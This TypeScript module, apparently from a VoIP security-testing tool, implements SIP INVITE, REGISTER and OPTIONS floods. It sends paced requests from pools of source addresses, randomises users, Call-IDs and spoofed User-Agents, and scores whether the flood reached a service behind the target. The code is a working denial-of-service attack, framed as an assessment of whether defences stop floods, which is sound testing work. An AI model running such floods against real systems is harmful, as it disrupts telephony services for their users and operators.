/**
 * invite-flood, register-flood, options-flood: requests as fast as asked, from one source
 * or a pool of many, with random or fixed users, Call-IDs and User-Agents. Each request's
 * number is in its Via branch, so every answer is matched to what it answers; a final
 * non-2xx answer to an INVITE is acknowledged (RFC 3261 17.1.1.3) so the target stops
 * retransmitting it, a 2xx is not (flood tools do not complete calls).
 *
 * With our own callee behind the target (assess --uas), the verdict is what reached the
 * service, not what came back: a target that refuses the flood itself (503, 403) answers
 * to the end, yet stops it. The flood succeeded when its requests kept reaching the callee
 * to the end of the run; it was stopped when the last of them no longer did.
 */
import type { RemoteInfo, Socket } from 'node:dgram';
import type { SipResponse } from '../../sip/message.ts';
import {
  achievedRate,
  type CommonOptions,
  DEFAULT_ANSWER_WAIT_MS,
  readMessage,
  sourcesOf,
  waitForAnswers,
} from '../context.ts';
import { pace } from '../pacer.ts';
import { COMMON_USER_AGENTS, Random } from '../random.ts';
import { type AttackReport, plural, sourceSummary } from '../report.ts';
import { ackForFailure, MAGIC_COOKIE, requestText, sdpOffer, sipUri } from '../sip-text.ts';
import { SourcePool } from '../source-pool.ts';
import { seqFromBranch, Tally } from '../tally.ts';
import { formatEndpoint } from '../target.ts';
import type { Callee } from '../ua/callee.ts';

export type FloodMethod = 'INVITE' | 'REGISTER' | 'OPTIONS';

export interface FloodOptions extends CommonOptions {
  readonly method: FloodMethod;
  /** Fixed user in the Request-URI and To; random per request when absent. */
  readonly user?: string;
  /** Fixed Call-ID; random per request when absent. */
  readonly callId?: string;
  /** Socket send buffer, for unpaced runs. */
  readonly sendBufferBytes?: number;
  /** Our own callee behind the target: the flood is judged by what reaches it. */
  readonly callee?: Callee;
}

/** Which of a run's requests reached the callee, by the sequence number in our Via's branch. */
class Reached {
  readonly #seen: Uint8Array;
  count = 0;
  last = -1;

  constructor(capacity: number) {
    this.#seen = new Uint8Array(capacity);
  }

  note(seq: number | undefined): void {
    if (seq === undefined || seq < 0 || seq >= this.#seen.length || this.#seen[seq] === 1) return;
    this.#seen[seq] = 1;
    this.count++;
    if (seq > this.last) this.last = seq;
  }
}

export const FLOOD_KIND: Readonly<Record<FloodMethod, AttackReport['kind']>> = {
  INVITE: 'invite-flood',
  REGISTER: 'register-flood',
  OPTIONS: 'options-flood',
};

export async function runFlood(options: FloodOptions): Promise<AttackReport> {
  const { target, limits, method } = options;
  const random = new Random(options.seed);
  const runId = random.token(8);
  const branchPrefix = `${MAGIC_COOKIE}${runId}-`;
  const tally = new Tally(limits.count);
  let sendErrors = 0;
  const pool = new SourcePool({
    range: sourcesOf(options),
    ...(options.maxSources === undefined ? {} : { maxSources: options.maxSources }),
    connect: target,
    ...(options.sendBufferBytes === undefined ? {} : { sendBufferBytes: options.sendBufferBytes }),
    onMessage: (data, from, source) => onAnswer(data, from, source),
  });

  const onAnswer = (data: Buffer, _from: RemoteInfo, source: number): void => {
    const message = readMessage(data);
    if (message?.kind !== 'response') return tally.unreadable();
    const seq = seqFromBranch(message.via[0]?.branch, branchPrefix);
    tally.answer(seq, message.status);
    if (message.cseq.method === 'INVITE' && message.status >= 300 && seq !== undefined) {
      const socket = pool.boundSocket(source);
      if (socket) sendAck(socket, message);
    }
  };

  const sendAck = (socket: Socket, response: SipResponse): void => {
    socket.send(Buffer.from(ackForFailure(response, target), 'latin1'), countError);
  };

  const countError = (error: Error | null): void => {
    if (error) sendErrors++;
  };

  const reached = new Reached(limits.count);
  // Our Via is below the target's: look at each (a retransmission names the same request).
  const unwatch = options.callee?.watch((request) => {
    for (const via of request.via) reached.note(seqFromBranch(via.branch, branchPrefix));
  });

  const started = performance.now();
  const startedAt = new Date().toISOString();
  try {
    await pool.open(Math.min(limits.count, pool.size));
    const sessionId = 1 + random.int(1_000_000_000);
    const paced = await pace({ ...limits, ...(options.signal ? { signal: options.signal } : {}) }, (seq) => {
      const source = pool.indexFor(seq);
      const socket = pool.boundSocket(source)!;
      const address = pool.addressOf(source);
      const port = pool.portOf(source);
      const user = options.user ?? random.user();
      const from = random.user();
      const text = requestText({
        method,
        requestUri: sipUri(method === 'REGISTER' ? undefined : user, target.address, target.port),
        via: { host: address, port, branch: `${branchPrefix}${seq}` },
        from: sipUri(method === 'REGISTER' ? user : from, target.address),
        fromTag: random.token(10),
        to: sipUri(user, target.address),
        callId: options.callId ?? `${random.token(16)}@${address}`,
        cseq: 1 + random.int(1000),
        contact: sipUri(method === 'REGISTER' ? user : from, address, port),
        userAgent: options.userAgent ?? random.pick(COMMON_USER_AGENTS),
        ...(method === 'REGISTER' ? { expires: 3600 } : {}),
        ...(method === 'INVITE'
          ? { body: sdpOffer(address, 10000 + 2 * random.int(20000), sessionId + seq) }
          : {}),
      });
      tally.sentOne(seq);
      // No callback: a failed send surfaces as the socket's 'error', counted by the pool.
      socket.send(Buffer.from(text, 'latin1'));
      return undefined;
    });
    const sentAll = paced.sent;
    await waitForAnswers(
      options.answerWaitMs ?? DEFAULT_ANSWER_WAIT_MS,
      () => {
        for (let i = 0; i < sentAll; i++) if (tally.statusOf(i) < 200) return false;
        return true;
      },
      options.signal,
    );
    const answers = tally.summary();
    const used = Math.min(sentAll, pool.size);
    const addresses = used === 0 ? [] : [pool.addressOf(0), ...(used > 1 ? [pool.addressOf(used - 1)] : [])];
    let outcome: string;
    let succeeded: boolean;
    // The last requests must reach the service for the flood to have gone on to the end.
    const trailing = sentAll - 1 - reached.last;
    const cutOff = trailing >= Math.max(3, Math.ceil(sentAll * 0.05));
    if (options.callee !== undefined && reached.count === 0) {
      succeeded = false;
      outcome = `none of the ${sentAll} ${plural(method, sentAll)} reached the service behind the target`;
    } else if (options.callee !== undefined && cutOff) {
      succeeded = false;
      outcome = `the flood stopped reaching the service behind the target after ${reached.last + 1} ${plural(method, reached.last + 1)} (${reached.count} of ${sentAll} reached it; the target answered ${answers.answered}, refusing or dropping the rest)`;
    } else if (options.callee !== undefined) {
      succeeded = true;
      outcome = `the flood reached the service behind the target to the end (${reached.count} of ${sentAll} requests)`;
    } else if (answers.blockedAfter) {
      succeeded = false;
      outcome = `the target went silent after ${answers.blockedAfter.messages} ${plural(method, answers.blockedAfter.messages)} (${answers.blockedAfter.seconds} s)`;
    } else if (answers.answered === 0) {
      succeeded = false;
      outcome = 'no answer at all: the target dropped every request, or nothing listens there';
    } else {
      succeeded = true;
      outcome = `the target answered the flood to the end (${answers.answered} of ${answers.sent} requests)`;
    }
    return {
      kind: FLOOD_KIND[method],
      target: formatEndpoint(target),
      transport: 'udp',
      startedAt,
      seconds: Math.round((performance.now() - started) / 10) / 100,
      unit: method,
      rate: { asked: limits.rate, achieved: achievedRate(sentAll, paced.elapsedMs) },
      sources: { ...sourceSummary(addresses), count: used },
      sendErrors: sendErrors + pool.sendErrors,
      answers,
      succeeded,
      applicable: true,
      outcome,
      details: {
        seed: random.seed,
        stoppedBy: paced.stoppedBy,
        sendSeconds: Math.round(paced.elapsedMs) / 1000,
        ...(options.callee === undefined ? {} : { reachedCallee: reached.count }),
      },
      notes: [],
    };
  } finally {
    unwatch?.();
    pool.close();
  }
}
